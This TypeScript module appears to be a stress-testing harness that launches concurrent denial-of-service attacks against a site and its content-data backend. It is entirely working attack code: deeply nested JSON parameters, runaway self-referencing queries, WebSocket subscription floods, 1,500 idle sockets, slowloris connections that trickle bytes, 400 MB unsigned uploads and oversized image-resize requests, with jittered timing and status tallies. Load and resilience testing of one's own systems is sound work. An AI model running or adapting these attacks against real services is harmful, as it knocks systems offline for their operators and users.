import { connect } from 'node:net';
import { WebSocket } from 'ws';

/** What is attacked, and what the attackers have. */
export type Target = {
  /** Origins of the site and of the lake's own port. */
  site: string;
  lake: string;
  /** A viewer's token. */
  viewer: string;
  /** The address of a picture. */
  picture: string;
};

type Attack = {
  name: string;
  run: (target: Target, stop: AbortSignal, note: Note) => Promise<void>;
};
type Note = (met: string) => void;

const data = '/v2026-02-01/data';
const endless = `count(*[count(*[_id != ^._id && count(*[_id > ^._id && _id < ^.^._id]) > 0]) > 0])`;
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

/** Asks over HTTP, and notes the status. */
async function ask(
  address: string,
  init: RequestInit,
  stop: AbortSignal,
  note: Note,
): Promise<void> {
  try {
    const response = await fetch(address, {
      ...init,
      signal: AbortSignal.any([stop, AbortSignal.timeout(40_000)]),
    });
    note(String(response.status));
    await response.arrayBuffer();
  } catch {
    if (!stop.aborted) note('cut off');
  }
}

const over = async (stop: AbortSignal, work: () => Promise<unknown>) => {
  while (!stop.aborted) await work();
};

/** Not all at the same moment, as if one machine did it. */
const soon = (milliseconds: number) => milliseconds * (0.5 + Math.random());

const pause = (milliseconds: number, stop: AbortSignal): Promise<void> =>
  new Promise((resolve) => {
    const timer = setTimeout(resolve, milliseconds);
    stop.addEventListener('abort', () => {
      clearTimeout(timer);
      resolve();
    });
  });

/** Opens a WebSocket, hands it over, and notes how it ended. */
function openSocket(
  address: string,
  stop: AbortSignal,
  note: Note,
  use: (socket: WebSocket) => void,
): Promise<void> {
  return new Promise((resolve) => {
    const socket = new WebSocket(address);
    socket.on('open', () => use(socket));
    socket.on('error', (error) => note(/response: (\d+)/.exec(error.message)?.[1] ?? 'refused'));
    socket.on('close', (code) => {
      if (!stop.aborted && code !== 1006) note(`closed with ${code}`);
      resolve();
    });
    stop.addEventListener('abort', () => socket.terminate(), { once: true });
  });
}

const rpc = (method: string, params: object = {}) =>
  JSON.stringify({ jsonrpc: '2.0', id: '1', method, params });

/** A connection that sends the beginning of something, and then a byte now and then. */
function trickle(address: string, head: string, stop: AbortSignal, note: Note): Promise<void> {
  const { port, hostname } = new URL(address);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => {});
    socket.write(head);
    const timer = setInterval(() => socket.writable && socket.write(' '), 1_000);
    socket.on('data', (chunk) => note(/^HTTP\/1.1 (\d+)/.exec(String(chunk))?.[1] ?? 'an answer'));
    socket.on('close', () => {
      clearInterval(timer);
      resolve();
    });
    stop.addEventListener('abort', () => socket.destroy(), { once: true });
  });
}

const chunk = Buffer.alloc(65_536, 32);

/** Sends a body as fast as it is taken, until there is an answer or the connection is closed. */
function pour(
  address: string,
  path: string,
  bytes: number,
  stop: AbortSignal,
  note: Note,
): Promise<void> {
  const { port, hostname } = new URL(address);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    let met = 'closed';
    const send = () => {
      while (socket.writable && socket.write(chunk));
    };
    socket.on('error', () => {}).on('drain', send);
    socket.write(`POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${bytes}\r\n\r\n`);
    send();
    socket.on('data', (answer) => {
      met = /^HTTP\/1.1 (\d+)/.exec(String(answer))?.[1] ?? met;
      socket.destroy();
    });
    socket.on('close', () => {
      if (!stop.aborted) note(met);
      resolve();
    });
    stop.addEventListener('abort', () => socket.destroy(), { once: true });
  });
}

const attacks: readonly Attack[] = [
  {
    name: 'a parameter nested 5,000 deep, of a viewer',
    run: ({ site, viewer }, stop, note) =>
      over(stop, async () => {
        const body = `{"query":"$p","params":{"p":${nested(5_000)}}}`;
        const headers = { authorization: `Bearer ${viewer}`, 'content-type': 'application/json' };
        await ask(
          `${site}/lake${data}/query/production`,
          { method: 'POST', body, headers },
          stop,
          note,
        );
        await pause(100, stop);
      }),
  },
  {
    name: 'six slow queries of a viewer at a time',
    run: async ({ lake, viewer }, stop, note) => {
      const query = encodeURIComponent(endless);
      const headers = { authorization: `Bearer ${viewer}` };
      const one = (n: number) =>
        over(stop, () =>
          ask(
            `${lake}${data}/query/production?query=${query}%20%2F%2F${n}`,
            { headers },
            stop,
            note,
          ),
        );
      await Promise.all(Array.from({ length: 6 }, (_, n) => one(n)));
    },
  },
  {
    name: '20,000 subscriptions to presence, and an announcement of 200 kB',
    run: ({ lake, viewer }, stop, note) =>
      over(stop, async () => {
        const address = `${lake.replace('http', 'ws')}/v1/socket/production`;
        await openSocket(address, stop, note, (socket) => {
          socket.send(rpc('authorization', { authorization: `Bearer ${viewer}` }));
          for (let n = 0; n < 20_000; n += 1) socket.send(rpc('presence_subscribe'));
          const data = { sessionId: 's', locations: ['x'.repeat(200_000)] };
          socket.send(rpc('presence_announce', { data }));
        });
        await pause(500, stop);
      }),
  },
  {
    name: '1,500 anonymous sockets',
    run: async ({ lake, site }, stop, note) => {
      const one = (n: number) =>
        over(stop, async () => {
          const origin = n % 2 ? `${site}/lake` : lake;
          await openSocket(
            `${origin.replace('http', 'ws')}/v1/tunnel/production`,
            stop,
            note,
            () => {},
          );
          await pause(soon(5_000), stop);
        });
      await Promise.all(Array.from({ length: 1_500 }, (_, n) => one(n)));
    },
  },
  {
    name: '400 bodies that never end',
    run: async ({ lake, site, viewer }, stop, note) => {
      const head = (path: string) =>
        `POST ${path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${viewer}\r\nContent-Length: 100000\r\n\r\n{`;
      const one = (n: number) =>
        over(stop, async () => {
          const path = `${data}/query/production`;
          await trickle(n % 2 ? site : lake, head(n % 2 ? `/lake${path}` : path), stop, note);
          await pause(soon(1_000), stop);
        });
      await Promise.all(Array.from({ length: 400 }, (_, n) => one(n)));
    },
  },
  {
    name: 'unsigned bodies of 400 MB to /api/revalidate',
    run: async ({ site }, stop, note) => {
      const one = () =>
        over(stop, async () => {
          await pour(site, '/api/revalidate', 400_000_000, stop, note);
          await pause(soon(500), stop);
        });
      await Promise.all(Array.from({ length: 4 }, one));
    },
  },
  {
    name: 'hostile pictures',
    run: async ({ picture }, stop, note) => {
      const one = (n: number) =>
        over(stop, async () => {
          const width = 7_000 + Math.floor(Math.random() * 1_000);
          await ask(`${picture}?w=${width}&h=6144&fit=scale&fm=avif&q=100&n=${n}`, {}, stop, note);
          await pause(200, stop);
        });
      await Promise.all(Array.from({ length: 16 }, (_, n) => one(n)));
    },
  },
];

/** What can be tried, by name. */
export const attackNames = attacks.map(({ name }) => name);

/** Begins attacks, all at once. `report` says what each met. */
export function startHostility(target: Target, names: readonly string[]) {
  const stopping = new AbortController();
  const tried = attacks.filter(({ name }) => names.includes(name));
  const met = tried.map(({ name }) => ({ name, counts: new Map<string, number>() }));
  const running = tried.map(({ run }, index) =>
    run(target, stopping.signal, (what) => {
      const counts = met[index]?.counts;
      counts?.set(what, (counts.get(what) ?? 0) + 1);
    }),
  );
  return {
    async stop(): Promise<void> {
      stopping.abort();
      await Promise.all(running);
    },
    report: () =>
      met.map(({ name, counts }) => ({
        name,
        times: [...counts.values()].reduce((sum, count) => sum + count, 0),
        met: [...counts].map(([what, count]) => `${what} (${count})`).join(', '),
      })),
  };
}
